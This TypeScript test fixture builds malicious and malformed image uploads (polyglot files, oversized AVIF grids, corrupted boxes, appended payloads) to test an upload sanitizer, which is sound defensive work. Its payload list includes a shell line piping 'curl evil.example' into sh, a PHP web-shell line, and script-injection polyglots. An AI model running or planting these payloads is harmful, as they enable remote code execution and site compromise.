import { join, little, type Part, repeat, u16, u32, zeros } from '../bytes'
import { type AvifOptions, avifFile, box, codedSize, fullBox } from '../images/avif'
import { exifBlock, xmpPacket } from '../images/camera'
import { gifs, jpegs, pngs, webps } from '../images/hostile-raster'
import { avif, EVERYTHING, gif, jpeg, PNG_SIGNATURE, png, webp } from '../images/pictures'
import {
  accept,
  find,
  type Hostile,
  HTML,
  PDF,
  refuse,
  refuseSize,
  replace,
  SCRIPT,
  SVG,
  ZIP,
} from './hostile-payloads'

/** Text that must not be in any stored image. */
export const BAD_MARKS = ['<script', '<svg', '<html', '%PDF', 'PK\x03\x04', 'GPSMARK', 'HOSTILEMARK']

const otherFiles = () => [
  refuse('nothing at all', ''),
  refuse('a single byte', [0xff]),
  refuse('zeros only', zeros(4096)),
  refuse('an SVG', SVG),
  refuse('an SVG with a byte order mark', '\xef\xbb\xbf', SVG),
  refuse('an SVG with an XML declaration', '<?xml version="1.0"?>', SVG),
  refuse('HTML', HTML),
  refuse('HTML that starts like a GIF', 'GIF89a', HTML),
  refuseSize('a script that starts like a GIF', `GIF89a/*${'x'.repeat(64)}*/=1;alert(1)//${SCRIPT}`),
  refuse('a script that starts like a JPEG', [0xff, 0xd8, 0xff, 0xe0], `/*${SCRIPT}*/=1`),
  refuse('a script that starts like a PNG', PNG_SIGNATURE, SCRIPT),
  refuse('a script that starts like a WebP', 'RIFF', little(64, 4), 'WEBPVP8 ', SCRIPT.padEnd(60)),
  refuse('a PDF', PDF),
  refuse('a ZIP', ZIP),
  refuse('a BMP', 'BM', little(70, 4), zeros(4), little(54, 4), little(40, 4), little(1, 8), little(24, 4), zeros(30)),
  refuse('a big-endian TIFF', exifBlock(6)),
  refuse('a little-endian TIFF', exifBlock(6, 'II')),
  refuse('an icon', [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 24, 0], little(40, 4), little(22, 4), zeros(40)),
  refuse('an MP4', box('ftyp', 'isom', zeros(4), 'isomavc1'), box('moov', box('mvhd', SCRIPT)), box('mdat', SCRIPT)),
  refuse('a HEIC image', avifFile({ brands: ['heic', 'heic', 'mif1'] })),
  refuse('a HEIF image of an unknown codec', avifFile({ brands: ['mif1', 'mif1', 'miaf'] })),
  refuse('a WAVE file', 'RIFF', little(36, 4), 'WAVEfmt ', little(16, 4), zeros(16), 'data', zeros(4)),
  refuse('a JPEG XL image', [0, 0, 0, 12], 'JXL \r\n\x87\n', zeros(16)),
]

const PAYLOADS: [name: string, payload: Part][] = [
  ['HTML', HTML],
  ['an SVG', SVG],
  ['a PDF', PDF],
  ['a ZIP', ZIP],
  ['a Windows executable', join('MZ', zeros(58), little(64, 4), 'PE\0\0HOSTILEMARK')],
  ['a Linux executable', '\x7fELF\x02\x01\x01HOSTILEMARK'],
  ['a shell script', '#!/bin/sh\ncurl evil.example/HOSTILEMARK | sh\n'],
  ['a PHP script', '<?php system($_GET["HOSTILEMARK"]); ?>'],
]

const cleaned = (name: string, options: AvifOptions) => accept(name, avifFile(options))
const broken = (name: string, options: AvifOptions) => refuse(name, avifFile(options))
const huge = (name: string, options: AvifOptions) => refuseSize(name, avifFile(options))

const patched = (name: string, type: string, offset: number, ...parts: Part[]) => {
  const bytes = avifFile({ exif: exifBlock(6) })
  return refuse(name, replace(bytes, find(bytes, type) + offset, ...parts))
}

const nested = (depth: number): Uint8Array => (depth === 0 ? join(SCRIPT) : box('meta', nested(depth - 1)))
const withGrid = (grid: Part, cells?: Part[]) => ({ isGrid: true, grid, cells })
const HUGE_CELLS = Array(5).fill(codedSize(16384, 16384))
const referencesTo = (count: number) => box('auxl', u16(1, count), repeat(count, u16(1)))
const MOVIE = [box('moov', box('trak', SCRIPT))]

const PROPERTIES =
  'pixi\0\0\0\0\x03\x08\x08\x08 colrnclx\0\x01\0\r\0\x06\x80 irot\0 imir\0 clli\0\0\0\0 colrprof'.split(' ')
const scriptAfter = (property: string) => {
  const content = box(property.slice(0, 4), property.slice(4), SCRIPT)
  return cleaned(`an AVIF with a script after ${/^[a-z]+/.exec(property)}`, { properties: [content] })
}

const avifs = () => [
  cleaned('an AVIF with HTML for every name', { name: HTML, stray: HTML }),
  cleaned('an AVIF with HTML in unknown boxes', { boxes: [box('uuid', '0123456789abcdef', HTML), box('html', HTML)] }),
  cleaned('an AVIF with HTML in its meta box', { tables: [box('xml ', HTML), box('uuid', HTML), box('free', HTML)] }),
  cleaned('an AVIF with a script in XMP', { xmp: `${xmpPacket()}${SCRIPT}` }),
  cleaned('an AVIF with a movie box', { boxes: [box('moov', box('mvhd', HTML), box('udta', HTML))] }),
  cleaned('an AVIF with circular references', { references: [box('dimg', u16(1, 1, 1))] }),
  cleaned('an AVIF with references to nothing', { references: [box('auxl', u16(99, 1, 1))] }),
  cleaned('an AVIF with brands that spell a script', { brands: ['avif', '<scr', 'ipt>', 'avif', 'mif1'] }),
  cleaned('an AVIF with boxes nested 200 deep', { boxes: [box('abcd', nested(200))] }),
  ...PROPERTIES.map(scriptAfter),
  broken('an AVIF of width 0', { width: 0 }),
  huge('an AVIF of 4 billion by 4 billion pixels', { width: 0xffffffff, height: 0xffffffff }),
  huge('an AVIF of 16384 by 16385 pixels', { width: 16384, height: 16385 }),
  huge('an AVIF with data of 65536 by 65536 pixels', { data: codedSize(65536, 65536) }),
  broken('an AVIF with HTML for data', { data: HTML }),
  broken('an AVIF with empty data', { data: '' }),
  broken('an AVIF with data beyond the end', { shift: 0x7fffffff }),
  broken('an AVIF with data outside mdat', { shift: -200 }),
  broken('an AVIF with data of 4 GiB', { length: 0xffffffff }),
  broken('an AVIF with data one byte too long', { length: 49 }),
  broken('an AVIF with data of length 0', { length: 0 }),
  huge('an AVIF with a grid of 60000 by 60000', withGrid([0, 0, 0, 1, ...u16(60000, 60000)])),
  broken('an AVIF with a grid of missing cells', withGrid([0, 0, 255, 255, 0, 128, 0, 64])),
  huge('an AVIF with a grid of too many pixels', withGrid([0, 0, 0, 4, 1, 64, 0, 64], HUGE_CELLS)),
  broken('an AVIF with HTML for a grid', withGrid(HTML)),
  broken('an AVIF grid that contains itself', { isGrid: true, references: [box('dimg', u16(1, 2, 1, 1))] }),
  broken('an animated AVIF', { brands: ['avis', 'avif', 'avis'], boxes: MOVIE }),
  broken('an AVIF of an image and an animation', { brands: ['avif', 'avif', 'avis'], boxes: MOVIE }),
  broken('an AVIF with two meta boxes', { boxes: [fullBox('meta', 0, 0)] }),
  broken('an AVIF with two handlers', { tables: [fullBox('hdlr', 0, 0, zeros(20))] }),
  patched('an AVIF with an iloc box of size 0', 'iloc', -4, u32(0)),
  patched('an AVIF with an iloc box of size 1', 'iloc', -4, u32(1)),
  patched('an AVIF with an iloc box of size 7', 'iloc', -4, u32(7)),
  patched('an AVIF with an iloc box of 4 GiB', 'iloc', -4, u32(0xffffffff)),
  patched('an AVIF with a meta box beyond the end', 'meta', -4, u32(0x7fffffff)),
  patched('an AVIF with a video handler', 'pict', 0, 'vide'),
  patched('an AVIF with Exif as primary item', 'pitm', 8, u16(5)),
  patched('an AVIF without its primary item', 'pitm', 8, u16(77)),
  patched('an AVIF with 65,535 locations', 'iloc', 10, u16(0xffff)),
  patched('an AVIF with 3-byte locations', 'iloc', 8, [0x33]),
  patched('an AVIF with locations without length', 'iloc', 8, [0x40]),
  patched('an AVIF with 4 billion associations', 'ipma', 8, u32(0xffffffff)),
  patched('an AVIF without ispe', 'ispe', 0, 'free'),
  patched('an AVIF with data in another file', 'iloc', 14, u16(1)),
  patched('an AVIF of another codec', 'av01', 0, 'hvc1'),
  huge('an AVIF of 50,000 empty boxes', { boxes: [repeat(50_000, box('free'))] }),
  huge('an AVIF of 50,000 boxes in meta', { tables: [repeat(50_000, box('free'))] }),
  huge('an AVIF of 50,000 references', { references: [referencesTo(1), repeat(9, referencesTo(5_500))] }),
]

/** Each format with a payload after it (removed) or before it (refused), and truncated (refused). */
const variations = () =>
  Object.entries({ JPEG: jpeg, PNG: png, GIF: gif, WebP: webp, AVIF: avif }).flatMap(([format, make]) => [
    ...PAYLOADS.map(([name, payload]) => accept(`a ${format} with ${name} after it`, make({ trailing: payload }))),
    ...PAYLOADS.map(([name, payload]) => refuse(`a ${format} with ${name} before it`, payload, make())),
    ...[12, 16, 24, 30, 40].map((length) =>
      refuse(`a ${format} truncated to ${length} bytes`, make(EVERYTHING).subarray(0, length)),
    ),
  ])

/** Malicious and malformed uploads, for each kind of attack on the image formats. */
export const hostileFiles = (): Hostile[] =>
  [otherFiles, jpegs, pngs, gifs, webps, avifs, variations].flatMap((list) => list())
